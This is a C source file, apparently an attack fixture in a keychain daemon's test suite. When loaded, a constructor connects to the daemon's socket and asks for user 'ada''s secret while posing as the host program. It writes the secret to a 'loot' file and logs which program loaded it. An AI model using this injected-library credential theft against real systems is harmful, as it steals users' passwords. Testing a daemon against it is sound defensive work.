/* A library that asks for ada's password in the name of the program that loads it, and writes the answer to a file. */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void ask(void) {
    char path[4096], secret[4096] = "", program[4096] = "";
    const char *home = getenv("CHATELAINE_HOME");
    if (!home) return;
    if (readlink("/proc/self/exe", program, sizeof program - 1) < 0) return;
    snprintf(path, sizeof path, "%s/loaded", home);
    FILE *list = fopen(path, "ae");
    if (list) fprintf(list, "%s\n", program);
    if (list) fclose(list);
    snprintf(path, sizeof path, "%s/run/securityd.sock", home);
    int end = keychain_connect(path);
    if (end < 0) return;
    if (keychain_greet(end) == 0 && keychain_find(end, "ada", secret, sizeof secret) == STATUS_SUCCESS) {
        snprintf(path, sizeof path, "%s/loot", home);
        FILE *loot = fopen(path, "ae");
        if (loot) fprintf(loot, "%s\n", secret);
        if (loot) fclose(loot);
    }
    close(end);
}
